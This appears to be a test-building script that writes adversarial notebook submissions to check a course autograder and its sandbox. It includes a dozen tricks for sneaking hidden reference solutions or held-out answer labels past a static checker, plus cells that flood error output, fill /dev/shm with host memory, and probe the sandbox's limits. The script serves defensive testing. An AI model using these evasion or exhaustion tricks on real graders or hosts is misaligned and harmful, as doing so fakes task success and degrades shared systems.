"""Build one student submission per attack from the released notebooks (a student's edits only)."""
import copy, json, pathlib, shutil

REL = pathlib.Path("/work/attack3-view/notebooks")
OUT = pathlib.Path("/work/attack3/submissions")

def load(stem):
    return json.loads((REL / f"{stem}.ipynb").read_text(encoding="utf-8"))

def src(c):
    s = c["source"]
    return "".join(s) if isinstance(s, list) else s

def find(nb, cell_id):
    for i, c in enumerate(nb["cells"]):
        if c.get("id") == cell_id:
            return i
    raise KeyError(cell_id)

def code(text, cid, meta=None):
    return {"cell_type": "code", "execution_count": None, "id": cid, "metadata": meta or {}, "outputs": [], "source": text}

def set_src(nb, cell_id, text):
    nb["cells"][find(nb, cell_id)]["source"] = text

def insert_after(nb, cell_id, cell):
    nb["cells"].insert(find(nb, cell_id) + 1, cell)

def save(student, stem, nb):
    d = OUT / student
    d.mkdir(parents=True, exist_ok=True)
    (d / f"{stem}.ipynb").write_text(json.dumps(nb, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")

if OUT.exists():
    shutil.rmtree(OUT)

N01, N03, N04, N06, N07, N09 = ("01_context_window", "03_archival_bm25", "04_memory_tools", "06_citations",
                                "07_memory_poisoning", "09_governed_memory")
EX01, EX03, EX04, EX06, EX07, EX09 = "01-30-ex0", "03-11-ex2", "04-13b-loop", "06-16-ex3-code", "07-22-ex4-code", "09-exercise-02"

HONEST01 = '''from memlib.context import MESSAGE_OVERHEAD
from memlib.tokens import count


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """How many of the newest `messages` fit in `window` tokens next to the system prompt and the reserve."""
    budget = window - count(system_prompt) - reserve
    fitted = 0
    for text in reversed(messages):
        cost = count(text) + MESSAGE_OVERHEAD
        if cost > budget:
            break
        budget -= cost
        fitted += 1
    return fitted
'''

HONEST03 = '''import math
from collections import Counter


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    N = len(docs_tokens)
    if N == 0:
        return []
    avgdl = sum(len(d) for d in docs_tokens) / N
    df = Counter()
    for d in docs_tokens:
        for t in set(d):
            df[t] += 1
    idf, total, negative = {}, 0.0, []
    for t, n in df.items():
        v = math.log(N - n + 0.5) - math.log(n + 0.5)
        idf[t] = v
        total += v
        if v < 0:
            negative.append(t)
    floor = epsilon * total / len(idf) if idf else 0.0
    for t in negative:
        idf[t] = floor
    scores = []
    for d in docs_tokens:
        tf, dl, s = Counter(d), len(d), 0.0
        for q in query_tokens:
            f = tf.get(q, 0)
            s += idf.get(q, 0.0) * (f * (k1 + 1) / (f + k1 * (1 - b + b * dl / avgdl)))
        scores.append(s)
    return scores
'''

# ---------------------------------------------------------------- honest controls
nb = load(N01); set_src(nb, EX01, HONEST01); save("h01_honest_budget", N01, nb)
nb = load(N03); set_src(nb, EX03, HONEST03); save("h03_honest_bm25", N03, nb)

# ---------------------------------------------------------------- reference use, hidden from the source reading
# a01: %time line magic (listed harmless): the import is a string argument of run_line_magic
nb = load(N01)
insert_after(nb, EX01, code("%time from memlib.course.checks.nb01_token_budget import reference_how_many_fit as how_many_fit\n", "a01-cheat"))
save("a01_time_magic", N01, nb)

# a02: the reference imported inside the answer's own body
nb = load(N03)
set_src(nb, EX03, '''def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    from memlib.course.checks.nb03_bm25 import reference_bm25_scores as scores
    return scores(query_tokens, docs_tokens, k1, b, epsilon)
''')
save("a02_import_in_def", N03, nb)

# a02b: the same, called through functools.singledispatch (a standard-library frame calls the reference)
nb = load(N03)
set_src(nb, EX03, '''import functools


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    from memlib.course.checks.nb03_bm25 import reference_bm25_scores as scores
    return functools.singledispatch(scores)(query_tokens, docs_tokens, k1, b, epsilon)
''')
save("a02b_import_in_def_trampoline", N03, nb)

# a03: a student cell that carries grading metadata for a grade id the release does not have
nb = load(N01)
insert_after(nb, EX01, code("from memlib.course.checks.nb01_token_budget import reference_how_many_fit as how_many_fit\n",
                            "a03-cheat", {"memlib": {"grade_id": "01-my-notes"}}))
save("a03_fake_gradeid_meta", N01, nb)

# a04: bound through vars()[...] (a subscript of a call binds no name)
nb = load(N03)
insert_after(nb, EX03, code('from memlib.course.checks.nb03_bm25 import reference_bm25_scores as _mine\n\nvars()["bm25_scores"] = _mine\n', "a04-cheat"))
save("a04_vars_subscript", N03, nb)

# a05: walrus inside a comprehension binds the module name, but comprehensions are skipped
nb = load(N01)
insert_after(nb, EX01, code("from memlib.course.checks.nb01_token_budget import reference_how_many_fit\n\n"
                            "[how_many_fit := reference_how_many_fit for _ in (0,)]\n", "a05-cheat"))
save("a05_walrus_comprehension", N01, nb)

# a06: a cell with top-level await does not parse as Python: the whole cell is unread
nb = load(N03)
insert_after(nb, EX03, code("import asyncio\n\nfrom memlib.course.checks.nb03_bm25 import reference_bm25_scores as bm25_scores\n\n"
                            "await asyncio.sleep(0)\n", "a06-cheat"))
save("a06_toplevel_await", N03, nb)

# a07: getattr chain from a bare package import, names in strings
nb = load(N01)
insert_after(nb, EX01, code('import memlib.course.checks.nb01_token_budget\n\n'
                            'how_many_fit = getattr(getattr(getattr(getattr(memlib, "course"), "checks"), "nb01_token_budget"),\n'
                            '                       "reference_" + "how_many_fit")\n', "a07-cheat"))
save("a07_getattr_chain", N01, nb)

# a08: the guard's reference under its other import path (memlib.scanner.scan, not memlib.guard.scan)
nb = load(N07)
insert_after(nb, EX07, code("from memlib.scanner import scan as my_scan\n", "a08-cheat"))
save("a08_scanner_alias", N07, nb)

# a09: POSITIVE CONTROL, plain use of a listed library implementation (memlib.retrieval.BM25Index)
nb = load(N03)
set_src(nb, EX03, '''from memlib.retrieval import BM25Index


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    if not docs_tokens:
        return []
    sep = "\\x1f"
    ix = BM25Index(idf="okapi", k1=k1, b=b, epsilon=epsilon, analyzer=lambda s: s.split(sep) if s else [])
    ix.add_many([(i, sep.join(d)) for i, d in enumerate(docs_tokens)])
    hits = dict(ix.search(sep.join(query_tokens), k=len(docs_tokens))) if query_tokens else {}
    return [float(hits.get(i, 0.0)) for i in range(len(docs_tokens))]
''')
save("a09_control_bm25index", N03, nb)

# a10: answer key: both poisoning splits' labels (held-out split named by concatenation) + 2 crude rules
nb = load(N07)
insert_after(nb, EX07, code('''from memlib import datasets
from memlib.guard import Verdict

_KEY = {}
for _split in ("poisoning", "poisoning_" + "heldout"):
    for _note in datasets.load(_split):
        _KEY[_note.text] = _note.label != "benign"


def my_scan(text):
    bad = _KEY.get(text)
    if bad is None:
        bad = bool(re.search(r"\\b(?:assistant|ai reading this|core_memory_\\w+)\\b", text, re.I))
    if bad:
        return Verdict(False, ["matched a known pattern"], "known")
    return Verdict(True, [], None)
''', "a10-cheat"))
save("a10_heldout_answer_key", N07, nb)

# a11: Agent.step through functools.partialmethod (qualname is not "Agent.step", caller is functools)
nb = load(N04)
set_src(nb, EX04, '''import functools

from memlib.agent import Agent
from memlib.tools import dispatch


class MyAgent(Agent):
    step = functools.partialmethod(getattr(Agent, "st" + "ep"))
''')
save("a11_partialmethod_agent", N04, nb)

# a12: the reference imported inside a class body (class bodies' imports are not read)
nb = load(N06)
insert_after(nb, EX06, code('''class _Toolbox:
    from memlib.citations import answer_from_store as answer


answer_with_citations = _Toolbox.answer
''', "a12-cheat"))
save("a12_class_body_import", N06, nb)

# a13: a default argument named like a parameter: the read is taken for the local
nb = load(N09)
insert_after(nb, EX09, code('''from memlib.governance import consolidate_in_store as _impl


import functools


def consolidation_pass(store, now, ends, _impl=functools.singledispatch(_impl)):
    """Dedupe, supersede and expire the records of `store` with its transitions; delete nothing."""
    return _impl(store, now, ends)
''', "a13-cheat"))
save("a13_default_arg_shadow", N09, nb)

# ---------------------------------------------------------------- metadata
# m01: the graded cell edited (points 100, a constant answer); expected: restored, 0 points
nb = load(N01)
i = find(nb, "01-31-ex0-check")
nb["cells"][i]["metadata"]["memlib"]["points"] = 100
nb["cells"][i]["source"] = "from memlib.course.checks import check_token_budget\n\ncheck_token_budget(lambda *a, **k: 0)\n"
save("m01_graded_cell_edited", N01, nb)

# ---------------------------------------------------------------- host harm
# x01: error messages past the output cap: each kept "short" (~6 KB), but how many is not bounded
nb = load(N01); set_src(nb, EX01, HONEST01)
flood = '''import sys, time
ip = get_ipython()
try:
    raise ValueError("E" * 20000)
except ValueError:
    etype, evalue, tb = sys.exc_info()
stb = ["T" * 20000] * 40
sent, started = 0, time.time()
while time.time() - started < 45:
    ip._showtraceback(etype, evalue, stb)
    sent += 1
print("sent", sent)
'''
insert_after(nb, EX01, code(flood, "x01-flood-1"))
insert_after(nb, "x01-flood-1", code(flood, "x01-flood-2"))
save("x01_error_flood", N01, nb)

# x02: where can a kernel write besides its 512 MB /tmp? /dev/shm is a tmpfs of its own (host RAM)
nb = load(N01); set_src(nb, EX01, HONEST01)
insert_after(nb, EX01, code('''import os, time
written = {}
for place in ("/dev/shm", "/dev", "/tmp", "/run", "/var/tmp"):
    done = 0
    for k in range(8):
        path = os.path.join(place, f"fill{k}")
        try:
            with open(path, "wb") as f:
                for _ in range(250):
                    f.write(b"x" * 2**20)
            done += 250
        except OSError as e:
            print(place, k, type(e).__name__, e)
            break
    written[place] = done
    if place == "/tmp":
        for k in range(8):
            try:
                os.remove(os.path.join(place, f"fill{k}"))
            except OSError:
                pass
print("MB written:", written)
time.sleep(20)  # held while the host is measured
''', "x02-fill"))
save("x02_devshm_fill", N01, nb)

# x03: a probe of the sandbox's walls (read-only; prints what it sees)
nb = load(N01); set_src(nb, EX01, HONEST01)
insert_after(nb, EX01, code('''import os, socket, subprocess
print("uid", os.getuid(), os.getgid(), "pid", os.getpid())
print("env", sorted(os.environ))
for d in ("/", "/work", "/root", "/home", "/tmp", "/dev", "/dev/shm", "/proc/1", "/sys/fs/cgroup"):
    try:
        print(d, sorted(os.listdir(d))[:40])
    except OSError as e:
        print(d, "->", type(e).__name__)
for p in ("/proc/1/cmdline", "/proc/self/mountinfo", "/proc/self/status"):
    try:
        print(p, open(p, "rb").read()[:3000])
    except OSError as e:
        print(p, "->", type(e).__name__)
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3); print("network: open")
except OSError as e:
    print("network:", e)
print(subprocess.run(["ps", "-ef"], capture_output=True, text=True).stdout[:2000])
for w in ("/", "/usr", os.path.dirname(os.__file__), "/dev", "/dev/shm", "/dev/mqueue", "/proc/self"):
    print("writable?", w, os.access(w, os.W_OK))
''', "x03-probe"))
save("x03_sandbox_probe", N01, nb)
print("built", sorted(p.name for p in OUT.iterdir()))
